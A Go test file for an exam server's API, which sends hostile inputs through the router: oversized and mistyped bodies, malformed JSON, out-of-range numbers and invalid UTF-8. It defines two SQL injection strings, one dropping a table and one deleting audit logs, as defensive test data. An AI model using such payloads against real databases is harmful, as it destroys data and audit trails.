package handlers_test

// Hostile input through the real router: bodies too large or of the wrong type,
// JSON of a bad shape, numbers out of range, text that is not UTF-8 or holds NUL,
// names that are not Persian, SQL and markup stored verbatim, path ids that are
// not UUIDs, formulas in exports. This file also holds the environment that the
// body fuzz targets (fuzz_bodies_test.go) and the header tests (headers_test.go)
// share: the real router over the real stores on a fresh database, called without
// a network, with logged-in sessions of each kind and the objects every route
// needs. Every top-level name of these files starts with "hz".

import (
	"context"
	"crypto/ed25519"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/gin-gonic/gin"
	"github.com/jmoiron/sqlx"

	"github.com/council-exam/examd/audit"
	"github.com/council-exam/examd/candidates"
	"github.com/council-exam/examd/database/dbtest"
	"github.com/council-exam/examd/exam"
	"github.com/council-exam/examd/handlers"
	"github.com/council-exam/examd/officials"
)

const (
	hzCookie        = "examd_session"
	hzPassword      = "hz-long-enough-secret"
	hzCandidate     = "0499370899" // a demo candidate, eligible
	hzMaxBody       = 64 << 10
	hzJSON          = "application/json"
	hzSection       = "councils_law" // a demo section of 22 questions
	hzSQLInjection  = `'; DROP TABLE candidates; --`
	hzSQLInjection2 = `" OR 1=1; DELETE FROM audit_log WHERE '1'='1`
)

var hzElectionDay = time.Date(2021, 6, 18, 0, 0, 0, 0, time.UTC)

// hzEnv is the router and what its routes act on.
type hzEnv struct {
	db     *sqlx.DB
	engine *gin.Engine
	exams  *exam.Store
	offs   *officials.Store
	key    ed25519.PrivateKey

	admin                   officials.Official
	adminToken, reviewToken string
	candID, candToken       string

	// draftExam is a draft the admin may edit; openExam is published and open
	// for two days, with the candidate's running attempt (running, of 24 hours)
	// whose questions are runningQs.
	draftExam, openExam string
	running             string
	runningQs           []string
	// closedExam is closed, its objection window open; finished is the
	// candidate's finished attempt of it, with questions finishedQs, receipt
	// receipt and a pending objection on finishedQs[0].
	closedExam, finished string
	finishedQs           []string
	receipt              string
	objection            string

	// free is a question no exam draws, when a test made one.
	free string
}

// hzNewRouter is the router as `examd serve` wires it over db; edit may change
// the dependencies first.
func hzNewRouter(tb testing.TB, db *sqlx.DB, edit ...func(*handlers.Deps)) (*gin.Engine, *exam.Store, *officials.Store, ed25519.PrivateKey) {
	tb.Helper()
	// Generous limits: the fuzz targets fail logins by the thousand.
	w := mustWire(tb, db, hzElectionDay, 1<<30, 1<<30)
	w.deps.MaxBodyBytes = hzMaxBody
	exams, offs, key := w.exams, w.officials, w.key
	// Saves go through the group commit, as in `examd serve`.
	batchCtx, stopBatching := context.WithCancel(context.Background())
	tb.Cleanup(stopBatching)
	exams.StartBatching(batchCtx, 2, 64)
	d := w.deps
	for _, e := range edit {
		e(&d)
	}
	h, err := handlers.New(d)
	if err != nil {
		tb.Fatalf("handlers.New: %v", err)
	}
	engine, ok := h.(*gin.Engine)
	if !ok {
		tb.Fatalf("handlers.New returned %T, want *gin.Engine", h)
	}
	return engine, exams, offs, key
}

// hzMustEnv makes a fresh database with the demo data, the router over it and
// every object of hzEnv.
func hzMustEnv(tb testing.TB, edit ...func(*handlers.Deps)) *hzEnv {
	tb.Helper()
	db := dbtest.New(tb)
	ctx := context.Background()
	if err := candidates.SeedDemo(ctx, db, hzElectionDay); err != nil {
		tb.Fatalf("candidates.SeedDemo: %v", err)
	}
	e := &hzEnv{db: db}
	e.engine, e.exams, e.offs, e.key = hzNewRouter(tb, db, edit...)
	if err := e.exams.SeedDemo(ctx); err != nil {
		tb.Fatalf("exam SeedDemo: %v", err)
	}
	var err error
	if e.admin, err = e.offs.Create(ctx, audit.System, officials.NewOfficial{Username: "hz.admin", Role: officials.RoleAdmin, Password: hzPassword}); err != nil {
		tb.Fatal(err)
	}
	if _, err = e.offs.Create(ctx, audit.System, officials.NewOfficial{Username: "hz.reviewer", Role: officials.RoleReviewer, Password: hzPassword}); err != nil {
		tb.Fatal(err)
	}
	e.adminToken = e.mustLogin(tb, "/api/v1/official/login", `{"username":"hz.admin","password":"`+hzPassword+`"}`)
	e.reviewToken = e.mustLogin(tb, "/api/v1/official/login", `{"username":"hz.reviewer","password":"`+hzPassword+`"}`)
	e.candToken = e.mustLogin(tb, "/api/v1/candidate/login", `{"national_id":"`+hzCandidate+`","password":"`+candidates.DemoPassword+`"}`)
	if err := db.Get(&e.candID, `SELECT id FROM candidates WHERE national_id = $1`, hzCandidate); err != nil {
		tb.Fatal(err)
	}

	now := time.Now().UTC().Truncate(time.Second)
	later := now.Add(30 * 24 * time.Hour)
	e.draftExam = e.mustExam(tb, later, later.Add(time.Hour), 2)
	e.openExam = e.mustExam(tb, now.Add(-time.Hour), now.Add(48*time.Hour), 5)
	e.closedExam = e.mustExam(tb, now.Add(-time.Hour), now.Add(time.Hour), 10)
	for _, id := range []string{e.openExam, e.closedExam} {
		if _, err := e.exams.PublishExam(ctx, e.admin.Actor(), id); err != nil {
			tb.Fatalf("publish: %v", err)
		}
	}
	v, _, err := e.exams.Start(ctx, e.candID, e.openExam)
	if err != nil {
		tb.Fatalf("start: %v", err)
	}
	e.running, e.runningQs = v.AttemptID, hzQuestionIDs(v)
	if v, _, err = e.exams.Start(ctx, e.candID, e.closedExam); err != nil {
		tb.Fatalf("start: %v", err)
	}
	e.finished, e.finishedQs = v.AttemptID, hzQuestionIDs(v)
	if v, err = e.exams.Submit(ctx, e.candID, e.finished); err != nil || v.Receipt == nil {
		tb.Fatalf("submit: %+v, %v", v.Receipt, err)
	}
	e.receipt = *v.Receipt
	if _, err := e.exams.CloseExam(ctx, e.admin.Actor(), e.closedExam); err != nil {
		tb.Fatalf("close: %v", err)
	}
	o, err := e.exams.Object(ctx, e.candID, e.finished, exam.ObjectionRequest{QuestionID: e.finishedQs[0], Text: "گزینهٔ دیگری هم درست است"})
	if err != nil {
		tb.Fatalf("object: %v", err)
	}
	e.objection = o.ID
	return e
}

func hzQuestionIDs(v exam.AttemptView) []string {
	ids := make([]string, len(v.Questions))
	for i, q := range v.Questions {
		ids[i] = q.ID
	}
	return ids
}

// mustExam creates a draft exam drawing draw questions of hzSection, open from
// opens to closes for 24-hour attempts.
func (e *hzEnv) mustExam(tb testing.TB, opens, closes time.Time, draw int) string {
	tb.Helper()
	pass := 50.0
	x, err := e.exams.CreateExam(context.Background(), e.admin.Actor(), exam.ExamRequest{
		Title: fmt.Sprintf("آزمون %d", time.Now().UnixNano()), DurationSeconds: 24 * 3600, OpensAt: &opens, ClosesAt: &closes,
		Sections: []exam.SectionSpec{{Key: hzSection, Draw: draw}}, PassPercent: &pass})
	if err != nil {
		tb.Fatalf("create exam: %v", err)
	}
	return x.ID
}

// mustLogin posts credentials through the router and returns the session token.
func (e *hzEnv) mustLogin(tb testing.TB, path, body string) string {
	tb.Helper()
	rec := e.serve(hzReq{method: "POST", path: path, body: body})
	if rec.Code != http.StatusOK {
		tb.Fatalf("POST %s = %d %s", path, rec.Code, rec.Body)
	}
	for _, c := range rec.Result().Cookies() {
		if c.Name == hzCookie && c.Value != "" {
			return c.Value
		}
	}
	tb.Fatalf("POST %s set no session cookie", path)
	return ""
}

// hzReq is one request: a body is sent with ctype (JSON when empty) unless
// noType is set.
type hzReq struct {
	method, path, ctype, body, token string
	noType                           bool
	header                           map[string]string
}

// serve sends the request through the router, from 192.0.2.7.
func (e *hzEnv) serve(r hzReq) *httptest.ResponseRecorder {
	return hzServe(e.engine, r)
}

func hzServe(h http.Handler, r hzReq) *httptest.ResponseRecorder {
	var body io.Reader
	if r.body != "" {
		body = strings.NewReader(r.body)
	}
	req := httptest.NewRequest(r.method, r.path, body)
	req.RemoteAddr = "192.0.2.7:40000"
	if r.body != "" && !r.noType {
		ct := r.ctype
		if ct == "" {
			ct = hzJSON
		}
		req.Header.Set("Content-Type", ct)
	}
	if r.token != "" {
		req.AddCookie(&http.Cookie{Name: hzCookie, Value: r.token})
	}
	for k, v := range r.header {
		req.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

func hzDecode[T any](tb testing.TB, b []byte) T {
	tb.Helper()
	var v T
	if err := json.Unmarshal(b, &v); err != nil {
		tb.Fatalf("decode %s: %v", hzTrim(b), err)
	}
	return v
}

func hzTrim(b []byte) string {
	if len(b) > 400 {
		return string(b[:400]) + "…"
	}
	return string(b)
}

// hzState is a digest of every row of the named tables, to tell whether a
// request wrote anything.
func (e *hzEnv) state(tb testing.TB, tables ...string) map[string]string {
	tb.Helper()
	out := make(map[string]string, len(tables))
	for _, t := range tables {
		var s string
		q := `SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, E'\n' ORDER BY t::text)), '') FROM ` + t + ` t`
		if err := e.db.Get(&s, q); err != nil {
			tb.Fatalf("digest of %s: %v", t, err)
		}
		out[t] = s
	}
	return out
}

// hzJSONOf marshals v, failing the test on error.
func hzJSONOf(tb testing.TB, v any) string {
	tb.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		tb.Fatal(err)
	}
	return string(b)
}

// hzQuestion is a valid question of hzSection with that stem and option texts
// (keys a, b, …), the first one correct.
func hzQuestion(stem string, options ...string) map[string]any {
	opts := make([]map[string]string, len(options))
	for i, o := range options {
		opts[i] = map[string]string{"key": string(rune('a' + i)), "text": o}
	}
	return map[string]any{"section": hzSection, "stem": stem, "options": opts, "correct": "a"}
}

// hzExamBody is a valid exam request; kv replaces or adds fields.
func hzExamBody(kv ...any) map[string]any {
	opens := time.Now().UTC().Add(10 * 24 * time.Hour).Truncate(time.Second)
	m := map[string]any{
		"title":            "آزمون نمونه",
		"sections":         []map[string]any{{"key": hzSection, "title": "قانون شوراها", "draw": 2, "min_percent": 0}},
		"duration_seconds": 600,
		"opens_at":         opens.Format(time.RFC3339),
		"closes_at":        opens.Add(time.Hour).Format(time.RFC3339),
		"grace_seconds":    5,
		"pass_percent":     50,
		"max_attempts":     1,
	}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	return m
}

// hzWrites are the tables a refused request must leave as they were.
var hzWrites = []string{"audit_log", "candidates", "questions", "exams", "exam_sections", "accommodations",
	"attempts", "answers", "objections", "question_overrides", "officials"}

// mustUnchanged fails when a table of hzWrites differs from before.
func (e *hzEnv) mustUnchanged(tb testing.TB, what string, before map[string]string) {
	tb.Helper()
	after := e.state(tb, hzWrites...)
	for _, t := range hzWrites {
		if after[t] != before[t] {
			tb.Errorf("%s changed table %s", what, t)
		}
	}
}

// hzMustError checks the status and that the body is exactly the error shape
// with that code and, when fields is not nil, exactly those fields.
func hzMustError(tb testing.TB, what string, rec *httptest.ResponseRecorder, status int, code string, fields map[string]string) {
	tb.Helper()
	if rec.Code != status {
		tb.Errorf("%s = %d %s, want %d %s", what, rec.Code, hzTrim(rec.Body.Bytes()), status, code)
		return
	}
	got, gotFields := mustErrorShape(tb, rec)
	if got != code {
		tb.Errorf("%s: code %q, want %q: %s", what, got, code, hzTrim(rec.Body.Bytes()))
	}
	if fields != nil && !maps.Equal(gotFields, fields) {
		tb.Errorf("%s: fields %v, want %v", what, gotFields, fields)
	}
}

// hzJSONRoutes are the routes that take a JSON body, with a valid body each.
func (e *hzEnv) hzJSONRoutes(tb testing.TB) []hzReq {
	tb.Helper()
	return []hzReq{
		{method: "POST", path: "/api/v1/candidates", body: validBody(withCheckDigit("700000099")).String()},
		{method: "POST", path: "/api/v1/candidate/login", body: `{"national_id":"` + hzCandidate + `","password":"wrong password"}`},
		{method: "POST", path: "/api/v1/official/login", body: `{"username":"hz.admin","password":"wrong password"}`},
		{method: "POST", path: "/api/v1/receipts/verify", body: hzJSONOf(tb, map[string]string{"receipt": e.receipt})},
		{method: "PUT", path: "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0], token: e.candToken, body: `{"choice":"a","seq":1}`},
		{method: "POST", path: "/api/v1/attempts/" + e.finished + "/objections", token: e.candToken,
			body: hzJSONOf(tb, map[string]string{"question_id": e.finishedQs[1], "text": "پاسخ درست دیگری است"})},
		{method: "POST", path: "/api/v1/official/questions", token: e.adminToken, body: hzJSONOf(tb, hzQuestion("پرسش تازه؟", "یک", "دو"))},
		{method: "PUT", path: "/api/v1/official/questions/" + e.runningQs[0], token: e.adminToken, body: hzJSONOf(tb, hzQuestion("پرسش دیگر؟", "یک", "دو"))},
		{method: "POST", path: "/api/v1/official/exams", token: e.adminToken, body: hzJSONOf(tb, hzExamBody())},
		{method: "PUT", path: "/api/v1/official/exams/" + e.draftExam, token: e.adminToken, body: hzJSONOf(tb, hzExamBody())},
		{method: "POST", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.adminToken,
			body: `{"national_id":"` + hzCandidate + `","extra_seconds":600,"reason":"نابینایی"}`},
		{method: "POST", path: "/api/v1/official/objections/" + e.objection + "/resolve", token: e.adminToken, body: `{"decision":"reject"}`},
		{method: "POST", path: "/api/v1/official/officials", token: e.adminToken,
			body: `{"username":"hz.new","display_name":"تازه","role":"reviewer","password":"` + hzPassword + `"}`},
	}
}

// hzChunked hides a body's length, so that only reading it finds it too long.
type hzChunked struct{ io.Reader }

func TestHostileOversizedBodies(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	const tooLarge = `{"error":{"code":"body_too_large","message":"the request body is too large"}}`
	// A JSON body one byte over the cap: a long string in a field the route reads.
	over := `{"text":"` + strings.Repeat("ب", hzMaxBody/2) + `"}`
	for _, r := range e.hzJSONRoutes(t) {
		for _, announced := range []bool{true, false} {
			var body io.Reader = strings.NewReader(over)
			if !announced {
				body = hzChunked{strings.NewReader(over)}
			}
			req := httptest.NewRequest(r.method, r.path, body)
			req.Header.Set("Content-Type", hzJSON)
			if r.token != "" {
				req.AddCookie(&http.Cookie{Name: hzCookie, Value: r.token})
			}
			rec := httptest.NewRecorder()
			e.engine.ServeHTTP(rec, req)
			what := fmt.Sprintf("%s %s with %d bytes (length announced: %v)", r.method, r.path, len(over), announced)
			if rec.Code != http.StatusRequestEntityTooLarge || rec.Body.String() != tooLarge {
				t.Errorf("%s = %d %s, want 413 %s", what, rec.Code, hzTrim(rec.Body.Bytes()), tooLarge)
			}
		}
	}
	// A body of exactly the cap is read.
	exact := `{"national_id":"x","password":"` + strings.Repeat("p", hzMaxBody-len(`{"national_id":"x","password":""}`)) + `"}`
	if len(exact) != hzMaxBody {
		t.Fatalf("the body has %d bytes, want %d", len(exact), hzMaxBody)
	}
	hzMustError(t, "a login body of exactly the cap", e.serve(hzReq{method: "POST", path: "/api/v1/candidate/login", body: exact}),
		http.StatusUnauthorized, "invalid_credentials", nil)

	// The import takes files of up to 8 MiB: a larger one is refused, a smaller
	// one over the JSON cap is read.
	huge := "section,stem,option_a,option_b,correct\n" + strings.Repeat("x", 8<<20)
	for _, announced := range []bool{true, false} {
		var body io.Reader = strings.NewReader(huge)
		if !announced {
			body = hzChunked{strings.NewReader(huge)}
		}
		req := httptest.NewRequest("POST", "/api/v1/official/questions/import", body)
		req.Header.Set("Content-Type", "text/csv")
		req.AddCookie(&http.Cookie{Name: hzCookie, Value: e.adminToken})
		rec := httptest.NewRecorder()
		e.engine.ServeHTTP(rec, req)
		if rec.Code != http.StatusRequestEntityTooLarge || rec.Body.String() != tooLarge {
			t.Errorf("an import of %d bytes (length announced: %v) = %d %s, want 413", len(huge), announced, rec.Code, hzTrim(rec.Body.Bytes()))
		}
	}
	big := "section,stem,option_a,option_b,correct\n" + hzSection + "," + strings.Repeat("س", 3000) + ",a,b,a\n" +
		strings.Repeat("\n", 2*hzMaxBody)
	rec := e.serve(hzReq{method: "POST", path: "/api/v1/official/questions/import", ctype: "text/csv", token: e.adminToken, body: big})
	if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), `"message":"stem: too_long"`) {
		t.Errorf("an import of %d bytes = %d %s, want 400 with stem: too_long", len(big), rec.Code, hzTrim(rec.Body.Bytes()))
	}
	e.mustUnchanged(t, "the oversized bodies", before)
}

func TestHostileContentType(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	const want = `{"error":{"code":"unsupported_media_type","message":"send application/json"}}`
	for _, r := range e.hzJSONRoutes(t) {
		for _, ct := range []string{"", "text/plain", "text/plain; charset=utf-8", "application/x-www-form-urlencoded",
			"multipart/form-data; boundary=xyz", "text/json", "application/jsonp", "application/json-seq", "application/xml",
			"json", "application/json, text/plain"} {
			r := r
			r.ctype, r.noType = ct, ct == ""
			rec := e.serve(r)
			if rec.Code != http.StatusUnsupportedMediaType || rec.Body.String() != want {
				t.Errorf("%s %s as %q = %d %s, want 415 %s", r.method, r.path, ct, rec.Code, hzTrim(rec.Body.Bytes()), want)
			}
		}
	}
	e.mustUnchanged(t, "bodies of the wrong type", before)

	// JSON with parameters or in capitals is still JSON.
	for _, ct := range []string{"application/json; charset=utf-8", "Application/JSON", "application/json ; charset=UTF-8"} {
		rec := e.serve(hzReq{method: "POST", path: "/api/v1/candidate/login", ctype: ct, body: `{"national_id":"` + hzCandidate + `","password":"wrong password"}`})
		hzMustError(t, "a login sent as "+ct, rec, http.StatusUnauthorized, "invalid_credentials", nil)
	}
	// The import takes CSV or JSON and nothing else.
	for _, ct := range []string{"", "text/plain", "application/vnd.ms-excel", "multipart/form-data; boundary=x"} {
		rec := e.serve(hzReq{method: "POST", path: "/api/v1/official/questions/import", ctype: ct, noType: ct == "", token: e.adminToken,
			body: "section,stem,option_a,option_b,correct\n"})
		if got, want := rec.Body.String(), `{"error":{"code":"unsupported_media_type","message":"send text/csv or application/json"}}`; rec.Code != 415 || got != want {
			t.Errorf("an import as %q = %d %s, want 415 %s", ct, rec.Code, got, want)
		}
	}
	e.mustUnchanged(t, "imports of the wrong type", before)
}

func TestHostileJSONShape(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	save := "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0]
	deep := func(levels int) string { // levels of nesting in all, the body's object included
		return `{"choice":` + strings.Repeat("[", levels-1) + strings.Repeat("]", levels-1) + `,"seq":1}`
	}
	tests := []struct {
		name   string
		r      hzReq
		fields map[string]string
	}{
		{"a repeated choice", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":1,"choice":"b"}`},
			map[string]string{"choice": "duplicate_key"}},
		{"a repeated seq", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":1,"seq":9007199254740993}`},
			map[string]string{"seq": "duplicate_key"}},
		{"a repeated password", hzReq{method: "POST", path: "/api/v1/candidate/login",
			body: `{"national_id":"` + hzCandidate + `","password":"x","password":"` + candidates.DemoPassword + `"}`},
			map[string]string{"password": "duplicate_key"}},
		{"a repeated key inside a section", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: strings.Replace(hzJSONOf(t, hzExamBody()), `"draw":2`, `"draw":2,"draw":20`, 1)},
			map[string]string{"sections[0].draw": "duplicate_key"}},
		{"a repeated correct key", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken,
			body: strings.Replace(hzJSONOf(t, hzQuestion("پرسش؟", "یک", "دو")), `"correct":"a"`, `"correct":"a","correct":"b"`, 1)},
			map[string]string{"correct": "duplicate_key"}},
		{"a repeated decision", hzReq{method: "POST", path: "/api/v1/official/objections/" + e.objection + "/resolve", token: e.adminToken,
			body: `{"decision":"reject","decision":"void"}`}, map[string]string{"decision": "duplicate_key"}},
		{"33 levels", hzReq{method: "PUT", path: save, token: e.candToken, body: deep(33)}, map[string]string{"body": "too_deep"}},
		{"20000 levels", hzReq{method: "PUT", path: save, token: e.candToken, body: deep(20000)}, map[string]string{"body": "too_deep"}},
		{"10000 unclosed levels in a question", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken,
			body: `{"options":` + strings.Repeat(`[{"x":`, 10000)}, map[string]string{"body": "too_deep"}},
		// 32 levels pass the shape check; the type check refuses them.
		{"32 levels", hzReq{method: "PUT", path: save, token: e.candToken, body: deep(32)}, map[string]string{"choice": "wrong_type"}},
	}
	for _, tt := range tests {
		hzMustError(t, tt.name, e.serve(tt.r), http.StatusBadRequest, "validation_failed", tt.fields)
	}
	e.mustUnchanged(t, "bodies of a bad shape", before)
}

func TestHostileNumbersOutOfRange(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	reg := validBody(withCheckDigit("700000098"))
	save := "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0]
	acc := "/api/v1/official/exams/" + e.openExam + "/accommodations"
	section := func(kv ...any) []map[string]any {
		s := map[string]any{"key": hzSection, "draw": 2}
		for i := 0; i+1 < len(kv); i += 2 {
			s[kv[i].(string)] = kv[i+1]
		}
		return []map[string]any{s}
	}
	type raw = json.RawMessage
	tests := []struct {
		name   string
		r      hzReq
		fields map[string]string
	}{
		{"constituency 1e30", hzReq{method: "POST", path: "/api/v1/candidates", body: reg.with("constituency_id", raw("1e30")).String()},
			map[string]string{"constituency_id": "wrong_type"}},
		{"constituency 2^63", hzReq{method: "POST", path: "/api/v1/candidates", body: reg.with("constituency_id", raw("9223372036854775808")).String()},
			map[string]string{"constituency_id": "wrong_type"}},
		{"constituency 2^31", hzReq{method: "POST", path: "/api/v1/candidates", body: reg.with("constituency_id", raw("2147483648")).String()},
			map[string]string{"constituency_id": "unknown_constituency"}},
		{"constituency -1", hzReq{method: "POST", path: "/api/v1/candidates", body: reg.with("constituency_id", -1).String()},
			map[string]string{"constituency_id": "too_small"}},
		{"seq 9.9e18", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":9.9e18}`},
			map[string]string{"seq": "wrong_type"}},
		{"seq 2^63", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":9223372036854775808}`},
			map[string]string{"seq": "wrong_type"}},
		{"seq -1", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":-1}`},
			map[string]string{"seq": "too_small"}},
		{"seq 1e400", hzReq{method: "PUT", path: save, token: e.candToken, body: `{"choice":"a","seq":1e400}`},
			map[string]string{"seq": "wrong_type"}},
		{"extra_seconds -1", hzReq{method: "POST", path: acc, token: e.adminToken, body: `{"national_id":"` + hzCandidate + `","extra_seconds":-1,"reason":"دلیل"}`},
			map[string]string{"extra_seconds": "out_of_range"}},
		{"extra_seconds a day and a second", hzReq{method: "POST", path: acc, token: e.adminToken,
			body: `{"national_id":"` + hzCandidate + `","extra_seconds":86401,"reason":"دلیل"}`}, map[string]string{"extra_seconds": "out_of_range"}},
		{"extra_seconds 1e30", hzReq{method: "POST", path: acc, token: e.adminToken, body: `{"national_id":"` + hzCandidate + `","extra_seconds":1e30,"reason":"دلیل"}`},
			map[string]string{"extra_seconds": "wrong_type"}},
		{"duration 2^31", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("duration_seconds", raw("2147483648")))}, map[string]string{"duration_seconds": "too_large"}},
		{"duration 2^31 in an edit", hzReq{method: "PUT", path: "/api/v1/official/exams/" + e.draftExam, token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("duration_seconds", raw("2147483648")))}, map[string]string{"duration_seconds": "too_large"}},
		{"duration -1", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("duration_seconds", -1))}, map[string]string{"duration_seconds": "too_small"}},
		{"grace an hour and a second", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("grace_seconds", 3601))}, map[string]string{"grace_seconds": "out_of_range"}},
		{"max_attempts 2^31", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("max_attempts", raw("2147483648")))}, map[string]string{"max_attempts": "out_of_range"}},
		{"points 1e309", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("points_correct", raw("1e309")))}, map[string]string{"points_correct": "wrong_type"}},
		{"points 1e308", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("points_correct", raw("1e308")))}, map[string]string{"points_correct": "out_of_range"}},
		{"penalty 2^63/1", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("penalty_wrong", "9223372036854775807/1"))}, map[string]string{"penalty_wrong": "out_of_range"}},
		{"penalty 1/0", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("penalty_wrong", "1/0"))}, map[string]string{"penalty_wrong": "wrong_type"}},
		{"pass percent 100.0001", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("pass_percent", 100.0001))}, map[string]string{"pass_percent": "out_of_range"}},
		{"objection window 2^31", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("objection_window_seconds", raw("2147483648")))}, map[string]string{"objection_window_seconds": "out_of_range"}},
		{"draw 2^40", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("sections", section("draw", raw("1099511627776"))))}, map[string]string{"sections[0].draw": "pool_too_small"}},
		{"draw 1e10", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("sections", section("draw", raw("1e10"))))}, map[string]string{"sections": "wrong_type"}},
		{"min percent -1e308", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: hzJSONOf(t, hzExamBody("sections", section("min_percent", raw("-1e308"))))}, map[string]string{"sections[0].min_percent": "out_of_range"}},
		{"question id as a number", hzReq{method: "POST", path: "/api/v1/attempts/" + e.finished + "/objections", token: e.candToken,
			body: `{"question_id":1e30,"text":"اعتراض"}`}, map[string]string{"question_id": "wrong_type"}},
	}
	for _, tt := range tests {
		hzMustError(t, tt.name, e.serve(tt.r), http.StatusBadRequest, "validation_failed", tt.fields)
	}
	e.mustUnchanged(t, "numbers out of range", before)
}

func TestHostileInvalidUTF8(t *testing.T) {
	t.Parallel()
	e := hzMustEnv(t)
	before := e.state(t, hzWrites...)
	reg := validBody(withCheckDigit("700000097")).String()
	question := hzJSONOf(t, hzQuestion("پرسش سالم؟", "یک", "دو"))
	exam := hzJSONOf(t, hzExamBody())
	// Raw bytes that are not UTF-8 inside JSON strings: the body is refused and
	// the field is named; nothing is stored with U+FFFD in their place.
	tests := []struct {
		name   string
		r      hzReq
		fields map[string]string
	}{
		{"a first name", hzReq{method: "POST", path: "/api/v1/candidates", body: strings.Replace(reg, `"مریم"`, "\"\xffمریم\"", 1)},
			map[string]string{"first_name": "invalid_utf8"}},
		{"a last name cut inside a letter", hzReq{method: "POST", path: "/api/v1/candidates", body: strings.Replace(reg, `"احمدی"`, "\"\xd8\"", 1)},
			map[string]string{"last_name": "invalid_utf8"}},
		{"a surrogate half", hzReq{method: "POST", path: "/api/v1/candidates", body: strings.Replace(reg, `"علی"`, "\"\xed\xa0\x80\"", 1)},
			map[string]string{"father_name": "invalid_utf8"}},
		{"an overlong slash in a password", hzReq{method: "POST", path: "/api/v1/candidate/login", body: "{\"national_id\":\"" + hzCandidate + "\",\"password\":\"\xc0\xaf\"}"},
			map[string]string{"password": "invalid_utf8"}},
		{"a username", hzReq{method: "POST", path: "/api/v1/official/login", body: "{\"username\":\"hz.admin\xff\",\"password\":\"x\"}"},
			map[string]string{"username": "invalid_utf8"}},
		{"a question stem", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken,
			body: strings.Replace(question, "سالم", "\xfe\xff", 1)}, map[string]string{"stem": "invalid_utf8"}},
		{"an option", hzReq{method: "POST", path: "/api/v1/official/questions", token: e.adminToken,
			body: strings.Replace(question, `"یک"`, "\"\x80\"", 1)}, map[string]string{"options": "invalid_utf8"}},
		{"an exam title", hzReq{method: "POST", path: "/api/v1/official/exams", token: e.adminToken,
			body: strings.Replace(exam, "نمونه", "\xff", 1)}, map[string]string{"title": "invalid_utf8"}},
		{"an accommodation reason", hzReq{method: "POST", path: "/api/v1/official/exams/" + e.openExam + "/accommodations", token: e.adminToken,
			body: "{\"national_id\":\"" + hzCandidate + "\",\"extra_seconds\":60,\"reason\":\"\xff\"}"}, map[string]string{"reason": "invalid_utf8"}},
		{"an objection", hzReq{method: "POST", path: "/api/v1/attempts/" + e.finished + "/objections", token: e.candToken,
			body: "{\"question_id\":\"" + e.finishedQs[1] + "\",\"text\":\"\xff\xff\"}"}, map[string]string{"text": "invalid_utf8"}},
		{"a decision note", hzReq{method: "POST", path: "/api/v1/official/objections/" + e.objection + "/resolve", token: e.adminToken,
			body: "{\"decision\":\"reject\",\"note\":\"\xff\"}"}, map[string]string{"note": "invalid_utf8"}},
		{"a key", hzReq{method: "PUT", path: "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0], token: e.candToken,
			body: "{\"choice\":\"a\",\"seq\":1,\"\xff\":1}"}, map[string]string{"body": "invalid_utf8"}},
		{"a wrong type too", hzReq{method: "PUT", path: "/api/v1/attempts/" + e.running + "/answers/" + e.runningQs[0], token: e.candToken,
			body: "{\"choice\":\"\xff\",\"seq\":\"1\"}"}, map[string]string{"choice": "invalid_utf8", "seq": "wrong_type"}},
	}
	for _, tt := range tests {
		hzMustError(t, tt.name, e.serve(tt.r), http.StatusBadRequest, "validation_failed", tt.fields)
	}
	// Escaped, the same mistakes decode to U+FFFD, which no name may hold.
	for _, field := range []string{"first_name", "last_name", "father_name"} {
